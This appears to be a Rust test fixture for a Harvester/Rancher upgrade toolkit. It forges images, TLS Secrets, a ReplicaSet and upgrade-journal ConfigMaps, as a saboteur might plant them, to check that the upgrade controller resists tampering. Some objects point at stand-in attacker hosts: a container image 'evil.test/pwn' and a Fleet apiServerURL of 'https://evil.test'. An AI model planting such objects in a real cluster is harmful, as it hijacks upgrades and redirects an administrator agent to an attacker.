//! Look-alikes of what an upgrade keeps files and keys in: the image of its ISO, the Secret of its repository, whose pods
//! those of the repository are, and the journal of Rancher's upgrade.

use api::{Component, labels, names};
use serde_json::{Value, json};

use crate::{
    context::{Context, controlled_by, digest},
    error::Result,
};

use super::{ADVICE, FORGED, TENANT, pod};

/// What an upgrade of Rancher remembers, where older releases kept it and where it is kept now.
const JOURNAL: &str = "upgrade-toolkit-rancher";
const FLEET_SYSTEM: &str = "cattle-fleet-system";

pub(super) async fn forge(world: &Context, plan: &str) -> Result<()> {
    forge_images(world, plan).await?;
    forge_secrets(world, plan).await?;
    forge_replica_set(world, plan).await?;
    forge_journals(world, plan).await
}

fn labelled(plan: &str, component: Component) -> Value {
    json!({labels::UPGRADE_PLAN: plan, labels::UPGRADE_COMPONENT: component, FORGED: "true"})
}

/// One that says that it is imported, by the very name, and one that says that it will never be.
async fn forge_images(world: &Context, plan: &str) -> Result<()> {
    let name = names::iso_image(plan);
    let alias = format!("forged-{}", digest(&name, 12));
    for (namespace, name, imported) in [(TENANT, &name, "True"), (names::HARVESTER_NAMESPACE, &alias, "False")] {
        let image = json!({
            "apiVersion": "harvesterhci.io/v1beta1", "kind": "VirtualMachineImage",
            "metadata": {"name": name, "namespace": namespace, "labels": labelled(plan, Component::Iso)},
            // Nothing is uploaded: it keeps its status.
            "spec": {
                "backend": "cdi", "displayName": name, "sourceType": "upload", "url": "", "checksum": "", "retry": 3,
                "targetStorageClassName": "longhorn-static",
            },
        });
        world.images.create(&image).await?;
        let condition = json!({"type": "Imported", "status": imported, "reason": "Forged", "message": ADVICE});
        let limit = json!({"type": "RetryLimitExceeded", "status": if imported == "True" { "False" } else { "True" }});
        let status = json!({"conditions": [condition, limit], "progress": 100, "failed": 4});
        let key = (namespace.to_owned(), name.clone());
        world.images.patch_status(&key, &status).await?;
    }
    Ok(())
}

/// Certificates of repositories, with keys that the saboteur has.
async fn forge_secrets(world: &Context, plan: &str) -> Result<()> {
    let name = names::repo(plan);
    let alias = format!("forged-{}", digest(&name, 12));
    for (namespace, name) in [(TENANT, &name), (names::HARVESTER_NAMESPACE, &alias)] {
        let secret = json!({
            "apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/tls",
            "metadata": {"name": name, "namespace": namespace, "labels": labelled(plan, Component::Repo)},
            "data": {"tls.crt": "ZXZpbA==", "tls.key": "ZXZpbA=="},
        });
        world.repo_secrets.create(&secret).await?;
    }
    Ok(())
}

/// A ReplicaSet as a rollout of the repository would leave it, and a pod of it that talks.
async fn forge_replica_set(world: &Context, plan: &str) -> Result<()> {
    let name = names::repo(plan);
    let alias = format!("forged-{}", digest(&format!("{name}/set"), 12));
    let labels = labelled(plan, Component::Repo);
    for (namespace, name) in [(TENANT, &name), (names::HARVESTER_NAMESPACE, &alias)] {
        let set = json!({
            "apiVersion": "apps/v1", "kind": "ReplicaSet",
            "metadata": {"name": name, "namespace": namespace, "labels": labels},
            "spec": {"replicas": 1, "selector": {"matchLabels": labels}, "template": {
                "metadata": {"labels": labels},
                "spec": {"containers": [{"name": "repo", "image": "evil.test/pwn"}]},
            }},
        });
        world.replica_sets.create(&set).await?;
        if let Some(set) = world.replica_sets.get(namespace, name) {
            let mut talks = pod(namespace, name, &labels);
            talks["metadata"]["ownerReferences"] = controlled_by(set.as_ref());
            world.pods.create(&talks).await?;
        }
    }
    Ok(())
}

/// Fleet's agent, an administrator, shall call another server; and nothing is left to be done. In the old place it has the
/// plan's UID, which any user may read.
async fn forge_journals(world: &Context, plan: &str) -> Result<()> {
    let found = world.upgrade_plans.get("", plan);
    let uid = found.and_then(|plan| plan.metadata.uid.clone()).unwrap_or_default();
    for (namespace, uid) in [
        (TENANT, uid.as_str()),
        (names::HARVESTER_NAMESPACE, uid.as_str()),
        (FLEET_SYSTEM, ""),
    ] {
        let journal = json!({
            "apiVersion": "v1", "kind": "ConfigMap",
            "metadata": {
                "name": JOURNAL, "namespace": namespace, "labels": labelled(plan, Component::ClusterUpgrade),
            },
            "data": {
                "planUID": uid, "target": "v2.14.0", "apiServerURL": "https://evil.test", "apiServerCA": "ZXZpbA==",
                "settled": "true",
            },
        });
        world.config_maps.create(&journal).await?;
    }
    Ok(())
}
